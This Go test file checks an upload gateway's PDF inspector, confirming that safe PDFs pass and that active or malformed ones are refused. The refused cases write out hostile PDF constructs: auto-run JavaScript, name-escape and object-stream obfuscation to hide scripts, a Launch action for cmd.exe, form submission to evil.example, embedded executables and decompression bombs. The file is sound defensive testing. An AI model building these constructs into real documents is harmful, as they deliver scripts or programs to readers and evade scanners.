package upload_test

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/jansetu/jansetu/gateway/upload"
)

const page = "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n"

// pdf is a document of one page with further objects, and additions to its catalog.
func pdf(parts ...string) []byte {
	var catalog, objects strings.Builder
	objects.WriteString(page)
	for _, part := range parts {
		if addition, ok := strings.CutPrefix(part, "catalog:"); ok {
			catalog.WriteString(addition)
		} else {
			objects.WriteString(part)
		}
	}
	return []byte("%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R" + catalog.String() + ">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n" +
		objects.String() + "trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n")
}

func deflate(text string) string {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return out.String()
}

func stream(dictionary, content string) string {
	return fmt.Sprintf("9 0 obj\n<<%s/Length %d>>\nstream\n%s\nendstream\nendobj\n", dictionary, len(content), content)
}

// packed is a stream of one object, as PDF 1.5 has it.
func packed(object string) string {
	return stream("/Type/ObjStm/N 1/First 5/Filter/FlateDecode", deflate("10 0 "+object))
}

func TestPDFsThatOnlyShow(t *testing.T) {
	t.Parallel()
	tests := map[string][]byte{
		"plain":                        pdf(),
		"with a link":                  pdf("4 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>\nendobj\n"),
		"opening at a page":            pdf("catalog:/OpenAction[3 0 R/Fit]"),
		"opening at a page, in words":  pdf("catalog:/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
		"opening at a page, elsewhere": pdf("catalog:/OpenAction 5 0 R", "5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n"),
		"opening at a page, packed":    pdf("catalog:/OpenAction 10 0 R", packed("<</S/GoTo/D[3 0 R/Fit]>>")),
		"packed objects":               pdf(packed("<</Producer(a phone)>>")),
		"a picture":                    pdf(stream("/Subtype/Image/Filter/DCTDecode", "\xff\xd8\xff/JS /AA binary")),
		"text about scripts":           pdf(stream("/Filter/FlateDecode", deflate("(/JavaScript) Tj"))),
	}
	for name, content := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			file, err := inspect(t, content, "application/pdf")
			require.NoError(t, err)
			require.Equal(t, upload.PDF, file.MIMEType)
			require.Equal(t, content, file.Content)
		})
	}
}

func TestPDFsThatAct(t *testing.T) {
	t.Parallel()
	script := "<</S/JavaScript/JS(app.alert\\(1\\))>>"
	tests := map[string][]byte{
		"a script when opened":             pdf("catalog:/OpenAction" + script),
		"a script elsewhere":               pdf("catalog:/OpenAction 5 0 R", "5 0 obj\n"+script+"\nendobj\n"),
		"a script under escapes":           pdf("4 0 obj\n<</S/J#61vaScr#69pt>>\nendobj\n"),
		"a script by its short name":       pdf("4 0 obj\n<</#4aS 7 0 R>>\nendobj\n"),
		"packed":                           pdf(packed(script)),
		"packed, its type left out":        pdf(stream("/N 1/First 5/Filter/FlateDecode", deflate("10 0 "+script))),
		"packed, its type under escapes":   pdf(stream("/Type/Obj#53tm/N 1/First 5/Filter/Fl", deflate("10 0 "+script))),
		"packed in what cannot be read":    pdf(stream("/Type/ObjStm/N 1/First 5/Filter/LZWDecode", "xx")),
		"packed twice":                     pdf(stream("/Type/ObjStm/N 1/First 5/Filter[/ASCII85Decode/FlateDecode]", "xx")),
		"packed, filtered elsewhere":       pdf(stream("/Type/ObjStm/N 1/First 5/Filter 7 0 R", deflate("10 0 "+script)), "7 0 obj\n/FlateDecode\nendobj\n"),
		"a program":                        pdf("4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"),
		"a file inside":                    pdf("catalog:/Names<</EmbeddedFiles 6 0 R>>"),
		"a file inside, as a stream":       pdf(stream("/Type/EmbeddedFile", "MZ")),
		"something on every page":          pdf("4 0 obj\n<</Type/Page /AA<</O 5 0 R>>>>\nendobj\n"),
		"a form that sends itself":         pdf("4 0 obj\n<</S/SubmitForm/F(http://evil.example)>>\nendobj\n"),
		"a dynamic form":                   pdf("catalog:/AcroForm<</XFA 6 0 R>>"),
		"a film":                           pdf("4 0 obj\n<</Subtype/RichMedia>>\nendobj\n"),
		"an address when opened":           pdf("catalog:/OpenAction<</S/URI/URI(http://evil.example)>>"),
		"when opened, nobody knows what":   pdf("catalog:/OpenAction 77 0 R"),
		"in a comment that looks a stream": pdf("% >>\nstream\n5 0 obj\n" + script + "\nendobj\nendstream\n"),
		"behind a stream without an end":   []byte("%PDF-1.4\n" + page + "8 0 obj\n<</Length 1>>\nstream\nx\n5 0 obj\n" + script + "\nendobj\n%%EOF"),
	}
	for name, content := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := inspect(t, content, "application/pdf")
			requireRefused(t, upload.Active, err)
		})
	}
}

func TestPDFsThatCannotBeTaken(t *testing.T) {
	t.Parallel()
	bomb := deflate(strings.Repeat("0", 200<<20))
	tests := []struct {
		name    string
		content []byte
		want    upload.Reason
	}{
		{"locked", []byte(strings.Replace(string(pdf()), "/Root 1 0 R", "/Root 1 0 R/Encrypt 8 0 R", 1)), upload.Locked},
		{"cut off", pdf()[:60], upload.Damaged},
		{"no page", []byte("%PDF-1.4\n%%EOF"), upload.Damaged},
		{"a bomb", pdf(stream("/Type/ObjStm/N 1/First 5/Filter/FlateDecode", bomb)), upload.TooLarge},
		{"many small bombs", pdf(strings.Repeat(stream("/Type/ObjStm/N 1/First 5/Filter/FlateDecode", deflate(strings.Repeat("0", 1<<20))), 40)), upload.TooLarge},
		{"packed badly", pdf(stream("/Type/ObjStm/N 1/First 5/Filter/FlateDecode", "not deflated")), upload.Damaged},
		{"a thousand pages", pdf(strings.Repeat(page, 1000)), upload.TooManyPages},
		{"a file behind it", append(pdf(), bytes.Repeat([]byte("PK\x03\x04"), 1000)...), upload.Damaged},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			_, err := inspect(t, test.content, "application/pdf")
			requireRefused(t, test.want, err)
		})
	}
}
